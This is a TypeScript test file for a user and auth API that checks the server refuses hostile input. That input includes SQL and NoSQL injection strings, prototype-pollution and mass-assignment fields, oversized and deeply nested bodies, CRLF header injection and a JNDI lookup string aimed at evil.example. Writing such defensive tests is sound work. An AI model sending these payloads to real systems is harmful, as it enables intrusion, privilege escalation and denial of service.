import { afterAll, describe, expect, test } from 'vitest';
import { newEmail, password, serve } from '../support/api.js';
import { expectProblem } from '../support/problems.js';
import { direct, type Fields, type Json } from '../support/transports.js';

const json = { 'content-type': 'application/json' };

/** JSON texts that are not the text a field wants. Numbers beyond what a double holds must not slip through either. */
const notTexts = [
  'null',
  '1',
  '-0',
  '1.5',
  '1e999',
  '-1e999',
  '9007199254740993',
  'true',
  'false',
  '[]',
  '["a@example.org"]',
  '{}',
  '{"$ne":null}',
  '{"$gt":""}',
  '{"toString":"x"}',
  '{"length":9}',
  '[[["a"]]]',
];

describe('hostile input', () => {
  const api = serve(direct);
  const self = () => `/v1/users/${api.admin.id}`;

  afterAll(async () => {
    // The process is as it was: one user, unchanged, and no prototype was touched.
    expect((await api.get('/v1/users/count', api.admin.as)).json).toEqual({ count: 1 });
    expect((await api.get(self(), api.admin.as)).json).toMatchObject({
      name: 'Ada',
      email: api.admin.email,
      role: 'admin',
    });
    expect((await api.get(self(), api.admin.as)).headers.etag).toBe('"1"');
    for (const name of ['role', 'isAdmin', 'polluted', '$ne']) expect(({} as Json)[name]).toBeUndefined();
    expect((await api.get('/health/ready')).status).toBe(200);
  });

  describe.each(['email', 'name', 'password'])('sign-up with a %s', (field) => {
    test.each(notTexts)('of %s is refused', async (value) => {
      const rest = Object.entries({ email: newEmail(), name: 'Ada', password }).filter(
        ([name]) => name !== field,
      );
      const body = `{${rest.map(([name, text]) => `"${name}":${JSON.stringify(text)}`).join()},"${field}":${value}}`;
      const { errors } = expectProblem(await api.post('/v1/users', body, json), 400, 'VALIDATION_FAILED');
      expect(errors.map(({ pointer }: Json) => pointer)).toEqual([`/${field}`]);
    });
  });

  describe.each(['email', 'name', 'role', 'password', 'currentPassword'])('a patch with a %s', (field) => {
    test.each(notTexts)('of %s is refused', async (value) => {
      const answer = await api.patch(self(), `{"${field}":${value}}`, { ...json, ...api.admin.as });
      const { errors } = expectProblem(answer, 400, 'VALIDATION_FAILED');
      expect(errors.map(({ pointer }: Json) => pointer)).toEqual([`/${field}`]);
    });
  });

  describe.each(['email', 'password', 'session'])('a sign-in with a %s', (field) => {
    test.each(notTexts)('of %s is refused', async (value) => {
      const rest = Object.entries({ email: api.admin.email, password, session: 'token' }).filter(
        ([name]) => name !== field,
      );
      const body = `{${rest.map(([name, text]) => `"${name}":${JSON.stringify(text)}`).join()},"${field}":${value}}`;
      const { errors } = expectProblem(
        await api.post('/v1/auth/login', body, json),
        400,
        'VALIDATION_FAILED',
      );
      expect(errors.map(({ pointer }: Json) => pointer)).toEqual([`/${field}`]);
    });
  });

  describe.each(['/v1/auth/refresh', '/v1/auth/logout'])('%s with a token', (path) => {
    test.each(notTexts)('of %s is refused', async (value) => {
      expectProblem(await api.post(path, `{"refreshToken":${value}}`, json), 400, 'VALIDATION_FAILED');
    });
  });

  test.each([
    '"role":"admin"',
    '"id":"019aa3c4-7d1e-7c3b-9f27-3f1d5c9b2a10"',
    '"passwordHash":"x"',
    '"sessionEpoch":-1',
    '"version":0',
    '"createdAt":"1970-01-01T00:00:00.000Z"',
    '"updatedAt":null',
    '"emailKey":"x"',
    '"sessions":{"deleteMany":{}}',
    '"constructor":{"prototype":{"polluted":1}}',
    '"prototype":{"polluted":1}',
    '"toString":"x"',
    '"hasOwnProperty":1',
    '"valueOf":null',
    '"__defineGetter__":1',
    '"$set":{"role":"admin"}',
    '"":1',
    '" email":"a@example.org"',
    '"Email":"a@example.org"',
    '"email\\u0000":"a@example.org"',
    '"\\ud800":1',
    '"a/b~c":1',
    '"connect":{"id":1}',
  ])('a field that is not offered is refused: %s', async (member) => {
    const body = `{"email":"${newEmail()}","name":"Ada","password":"${password}",${member}}`;
    expectProblem(await api.post('/v1/users', body, json), 400, 'VALIDATION_FAILED');
    if (!member.startsWith('"role"'))
      expectProblem(
        await api.patch(self(), `{${member}}`, { ...json, ...api.admin.as }),
        400,
        'VALIDATION_FAILED',
      );
    expectProblem(
      await api.post(
        '/v1/auth/login',
        `{"email":"${api.admin.email}","password":"${password}",${member}}`,
        json,
      ),
      400,
      'VALIDATION_FAILED',
    );
  });

  test.each([
    ['a prototype', '{"__proto__":{"role":"admin"},"email":"a@example.org"}'],
    ['a prototype in depth', '{"name":{"x":{"__proto__":{"polluted":1}}}}'],
    ['a prototype in disguise', '{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":1}}'],
    ['a name twice', '{"email":"a@example.org","email":"b@example.org"}'],
    ['a name twice in disguise', '{"name":"a","n\\u0061me":"b"}'],
    ['100,000 arrays in each other', '['.repeat(100_000)],
    ['60,000 closed arrays in each other', '['.repeat(60_000) + ']'.repeat(60_000)],
    ['20,000 objects in each other', `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`],
    ['half a character', '{"name":"\\ud8'],
    ['a raw line break in a text', '{"name":"a\nb"}'],
    ['a comment', '{/*x*/}'],
    ['Infinity', '{"name":Infinity}'],
    ['a hexadecimal number', '{"name":0x10}'],
    ['a leading plus', '{"name":+1}'],
    ['a trailing comma', '{"name":"a",}'],
    ['a second document', '{} {}'],
    ['a byte order mark', '\ufeff{}'],
    ['nothing but NUL', '\u0000\u0000'],
  ])('a body with %s is refused', async (_what, body) => {
    expectProblem(await api.post('/v1/users', body, json), 400, 'BODY_INVALID');
    expectProblem(await api.patch(self(), body, { ...json, ...api.admin.as }), 400, 'BODY_INVALID');
  });

  test.each([
    ['50,000 fields', `{${Array.from({ length: 50_000 }, (_, index) => `"f${index}":1`).join()}}`],
    ['a field name of half a megabyte', `{"${'n'.repeat(500_000)}":1}`],
    ['an array of 200,000 numbers', `[${'1,'.repeat(199_999)}1]`],
    ['a number of 100,000 digits', `{"name":${'9'.repeat(100_000)}}`],
    [
      'a name of a megabyte',
      `{"email":"a@example.org","password":"${password}","name":"${'x'.repeat(1_000_000)}"}`,
    ],
    ['an email of a megabyte', `{"email":"${'@'.repeat(1_000_000)}","password":"${password}","name":"a"}`],
    [
      'a password of a megabyte',
      `{"email":"a@example.org","password":"${'x'.repeat(1_000_000)}","name":"a"}`,
    ],
    [
      'an email to try patience',
      `{"email":"${'a.'.repeat(50_000)}@${'a-'.repeat(50_000)}","password":"${password}","name":"a"}`,
    ],
  ])('a body with %s is refused quickly, in an answer of bounded size', async (_what, body) => {
    const startedMs = performance.now();
    const answer = await api.post('/v1/users', body, json);
    expectProblem(answer, 400, 'VALIDATION_FAILED');
    expect(answer.text.length).toBeLessThan(20_000);
    expect(performance.now() - startedMs).toBeLessThan(3_000);
  });

  test.each([
    'email[$ne]=x',
    'email[$regex]=.*',
    'email[]=a@example.org',
    'email[contains]=a',
    'email.contains=a',
    'role[not]=user',
    'q[$where]=1',
    'where={"role":"admin"}',
    'select=passwordHash',
    'include=sessions',
    'orderBy=passwordHash',
    'passwordHash=x',
    'passwordHash[startsWith]=$',
    'role=user&role=admin',
    'role=',
    'role=%00',
    'role=admin%27--',
    'q=a&q=b',
    'q=',
    'q=%00',
    'q=a%00b',
    'q=%0d%0aSet-Cookie:x',
    `q=${'x'.repeat(101)}`,
    `q=${'%F0%9F%98%80'.repeat(101)}`,
    'email=a%00@example.org',
    'email=a%0a@example.org',
    "email='%20OR%201=1--",
    'email=%F0%9F%98%80',
    'limit=1;DROP',
    'limit=-0',
    'limit=1e2',
    'limit=0x1',
    'limit=%00',
    'limit=9007199254740993',
    'limit=1&limit=1',
    'limit[]=1',
    'limit[toString]=1',
    'sort=passwordHash',
    'sort=constructor',
    'sort=__proto__',
    'sort=name%20desc',
    'sort=-',
    'sort[name]=asc',
    '__proto__=x',
    '__proto__[role]=admin',
    'constructor[prototype][polluted]=1',
    'toString=1',
    '%00=1',
    '=1',
    '[]=1',
  ])('the list refuses ?%s', async (query) => {
    const answer = await api.get(`/v1/users?${query}`, api.admin.as);
    expectProblem(answer, 400, 'VALIDATION_FAILED');
  });

  test.each(['q=%', 'q=%ff', 'q=%C3%28', 'q=a%zz', 'email=%E0%A4%A'])(
    'the list refuses percent-encoding that is none: ?%s',
    async (query) => {
      expect((await api.get(`/v1/users?${query}`, api.admin.as)).status).toBe(400);
    },
  );

  test.each([
    ['\'; DROP TABLE "User"; --', 0],
    ["' OR '1'='1", 0],
    ['%', 0],
    ['_', 0],
    ['.*', 0],
    ['\\', 0],
    ['"', 0],
    ['$ne', 0],
    ['\u202e', 0],
    ['a\u0301\u0301\u0301', 0],
    ['\u{1f468}\u200d\u{1f469}', 0],
    ['ADA', 1],
  ])('the list takes q=%j as what it says', async (q, found) => {
    const { status, text, json: page } = await api.get(`/v1/users?q=${encodeURIComponent(q)}`, api.admin.as);
    expect(status, text).toBe(200);
    expect(page.data).toHaveLength(found);
  });

  test.each([
    ['accept', 'x'.repeat(5_000), 406],
    ['accept', ',;=,', 406],
    ['accept-language', ';;;q=x', 200],
    ['accept-encoding', 'gzip;q=nan, \u00e9', 200],
    ['if-none-match', 'x', 400],
    ['if-none-match', '"'.repeat(1_000), 400],
    ['if-none-match', '"1",'.repeat(1_500), 400],
    ['if-modified-since', 'not a date', 200],
    ['range', 'bytes=0-,-1,x', 200],
    ['cookie', '=;=;\u00e9=%', 200],
    ['cookie', 'x=%E0%A4%A; __proto__=1; refresh=[object Object]', 200],
    ['origin', '\u00e9 junk', 200],
    ['host', 'evil.example/../', 200],
    ['x-forwarded-for', "127.0.0.1, ' OR 1=1, \u00e9", 200],
    ['x-forwarded-proto', 'javascript', 200],
    ['x-forwarded-host', 'evil.example', 200],
    ['forwarded', 'for=_evil;proto=x', 200],
    ['x-http-method-override', 'DELETE', 200],
    ['x-original-url', '/v1/users', 200],
    ['content-type', 'application/json; charset=\u00e9', 200],
    ['content-encoding', 'gzip', 200],
    ['transfer-encoding', 'identity', 200],
    ['prefer', 'respond-async;;;', 200],
    ['idempotency-key', '\u00e9'.repeat(300), 200],
    ['x-request-id', '$'.concat('{jndi:ldap://evil.example}'), 200],
    ['traceparent', 'junk', 200],
    ['constructor', 'x', 200],
    ['__proto__', 'x', 200],
  ] as [string, string, number][])(
    'a read with %s: %s is answered as it should be',
    async (name, value, status) => {
      const headers: Fields = Object.fromEntries([...Object.entries(api.admin.as), [name, value]]);
      const answer = await api.get('/v1/users/me', headers);
      expect(answer.status, answer.text).toBe(status);
      expect(answer.headers.location).toBeUndefined();
      if (status === 200) expect(answer.json.id).toBe(api.admin.id);
    },
  );

  // Quadratic in NFC and IDNA: unless the length is looked at first, each of these takes minutes.
  test.each([
    ['combining marks out of order', `a${'\u0301'.repeat(130_000)}${'\u0323'.repeat(130_000)}@example.org`],
    ['a domain of 300,000 ideographs', `a@${'中'.repeat(300_000)}.org`],
  ])('an address of %s is refused before it is read', async (_kind, email) => {
    expectProblem(await api.post('/v1/users', { email, name: 'Ada', password }), 400, 'VALIDATION_FAILED');
    expectProblem(await api.post('/v1/auth/login', { email, password }), 400, 'VALIDATION_FAILED');
  });

  test('a compressed body is not unpacked', async () => {
    const answer = await api.post('/v1/users', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), {
      ...json,
      'content-encoding': 'gzip',
    });
    expect([400, 415]).toContain(answer.status);
  });
});
